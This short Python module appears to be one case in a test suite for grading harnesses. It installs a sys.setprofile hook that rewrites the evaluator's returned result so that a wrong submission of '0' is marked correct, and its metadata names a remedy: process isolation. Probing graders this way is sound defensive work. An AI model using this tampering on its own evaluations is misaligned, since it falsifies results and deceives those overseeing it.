# SPDX-License-Identifier: MIT
"""Goal:  a wrong answer is marked correct.
Means: sys.setprofile is told of every return and of the object returned. The evaluation function
       returns a dict; it is corrected before the caller has it. Function, module and data are as
       they were, and remain so.
"""

import sys

from attack import DONE, attempting, submit


def correct(frame, event, arg):
    if event == "return" and frame.f_code.co_name == "evaluation_function":
        arg["is_correct"] = True


def run(brief):
    submit("0")
    attempting()
    sys.setprofile(correct)
    return DONE


ATTACK = {
    "effect": "a wrong submission is marked correct",
    "means": "a profile function changes the evaluator's result as it is returned",
    "oracle": "grade:forged",
    "grader": "rpc",
    "control": "in-process",
    "attack_id": "T1565.003, CWE-913",
    "remedy": "the submission in a process of its own, the mark made in another",
    "refs": ["sys.setprofile"],
    "run": run,
}
